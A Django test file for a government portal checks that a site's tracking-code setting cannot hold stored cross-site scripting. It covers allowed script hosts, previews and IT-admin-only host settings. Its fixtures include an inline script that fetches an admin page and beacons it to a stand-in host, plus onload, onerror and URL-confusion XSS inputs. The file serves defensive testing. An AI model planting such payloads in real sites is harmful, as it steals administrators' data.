"""The tracking code of a site (R-SHARE-2) cannot carry a stored XSS (issue 12, R-OPS-5): only `<script src="https://…">`
from hosts an IT administrator allowed, never rendered in previews or the admin, and the admin only on the main host."""

import pytest
from django.contrib.auth.models import Group

from accounts import roles
from defence.models import TrackingScriptHosts
from home.factories import StandardPageFactory
from home.models import SiteTracking

EMC_SCRIPT = '<script async src="https://f-emc.ngsp.gov.vn/embed/gov-tracking.min.js"></script>'
INLINE = "<script>fetch('/admin/users/').then(r => r.text()).then(t => navigator.sendBeacon('https://x.example', t))</script>"


@pytest.fixture
def approver(client, portal, django_user_model):
    user = django_user_model.objects.create_user("thads_duyet", password="x")
    user.groups.add(portal.thads.approvers_group)
    client.force_login(user)
    return user


def save_tracking(client, site, code, emc_site_id=""):
    return client.post(f"/admin/settings/home/sitetracking/{site.pk}/", {"tracking_code": code, "emc_site_id": emc_site_id})


@pytest.mark.parametrize(
    ("code", "message"),
    [
        (INLINE, "Không được viết mã trực tiếp bên trong thẻ &lt;script&gt;"),
        ('<script src="https://f-emc.ngsp.gov.vn/a.js">alert(1)</script>', "Không được viết mã trực tiếp"),
        ('<script src="https://f-emc.ngsp.gov.vn/a.js" onload="alert(1)"></script>', "Thuộc tính “onload” không được phép"),
        ('<script src="https://evil.example/a.js"></script>', "Máy chủ evil.example không có trong danh sách được phép"),
        ('<script src="https://evil.example\\@f-emc.ngsp.gov.vn/a.js"></script>', "Địa chỉ tập lệnh không hợp lệ"),
        ('<script src="http://f-emc.ngsp.gov.vn/a.js"></script>', "Địa chỉ tập lệnh phải bắt đầu bằng https://"),
        ('<img src="x" onerror="alert(1)">', "Chỉ dán các thẻ &lt;script src="),
    ],
)
def test_a_site_approver_cannot_save_script_that_is_not_an_allowed_loader(client, portal, approver, code, message):
    response = save_tracking(client, portal.thads.site, code)
    assert response.status_code == 200
    assert message in response.text
    assert SiteTracking.for_site(portal.thads.site).tracking_code == ""


def test_a_loader_from_an_allowed_host_is_saved_and_rendered_with_the_page_nonce(client, portal, approver):
    assert save_tracking(client, portal.thads.site, EMC_SCRIPT, emc_site_id="227").status_code == 302
    response = client.get("/", HTTP_HOST="thads.localhost")
    nonce = response["Content-Security-Policy"].split("'nonce-")[1].split("'")[0]
    html = response.text
    assert f'<script src="https://f-emc.ngsp.gov.vn/embed/gov-tracking.min.js" nonce="{nonce}" async></script>' in html
    assert 'data-emc-site-id="227"' in html and "home/emc-tracking.js" in html
    assert "https://f-emc.ngsp.gov.vn" in response["Content-Security-Policy"].split("script-src")[1].split(";")[0]


def test_tracking_code_is_never_rendered_in_a_preview(client, portal, approver):
    save_tracking(client, portal.thads.site, EMC_SCRIPT, emc_site_id="227")
    page = StandardPageFactory(parent=portal.thads.site.root_page, title="Giới thiệu Cục", slug="gioi-thieu")
    page.save_revision().publish()
    assert "gov-tracking.min.js" in client.get("/gioi-thieu/", HTTP_HOST="thads.localhost").text
    preview = client.get(f"/admin/pages/{page.pk}/view_draft/", HTTP_HOST="localhost")
    assert preview.status_code == 200 and "Giới thiệu Cục" in preview.text
    assert "gov-tracking" not in preview.text and "emc-tracking" not in preview.text
    # The preview has the public policy, with its nonce, even though it is served on the admin's path.
    assert "'unsafe-inline'" not in preview["Content-Security-Policy"]


def test_code_saved_before_a_host_was_removed_from_the_allow_list_is_no_longer_rendered(client, portal, approver):
    save_tracking(client, portal.thads.site, EMC_SCRIPT)
    settings_row = TrackingScriptHosts.load()
    settings_row.hosts = "analytics.moj.gov.vn"
    settings_row.save()
    assert "gov-tracking" not in client.get("/", HTTP_HOST="thads.localhost").text


def test_only_it_administrators_set_the_allowed_hosts(client, portal, approver, django_user_model):
    url = f"/admin/settings/defence/trackingscripthosts/{TrackingScriptHosts.load().pk}/"
    refused = client.post(url, {"hosts": "evil.example"})
    assert refused.status_code in (302, 403)
    assert TrackingScriptHosts.load().host_list() == ["f-emc.ngsp.gov.vn"]
    it_admin = django_user_model.objects.create_user("quantri", password="x")
    roles.ensure_global_roles()
    it_admin.groups.add(Group.objects.get(name=roles.IT_ADMINS))
    client.force_login(it_admin)
    assert "không phải là tên máy chủ" in client.post(url, {"hosts": "https://analytics.moj.gov.vn/x"}).text
    assert client.post(url, {"hosts": "f-emc.ngsp.gov.vn\nanalytics.moj.gov.vn"}).status_code == 302
    assert TrackingScriptHosts.load().host_list() == ["f-emc.ngsp.gov.vn", "analytics.moj.gov.vn"]


@pytest.mark.parametrize("path", ["/admin/", "/admin/pages/3/edit/?next=%2Fadmin%2F", "/admin/login/"])
def test_the_admin_on_a_unit_host_redirects_to_the_same_path_on_the_main_host(client, portal, path):
    response = client.get(path, HTTP_HOST="thads.localhost:8000")
    assert response.status_code == 302
    assert response["Location"] == f"http://localhost:8000{path}"
    assert client.get("/admin/login/", HTTP_HOST="localhost:8000").status_code == 200
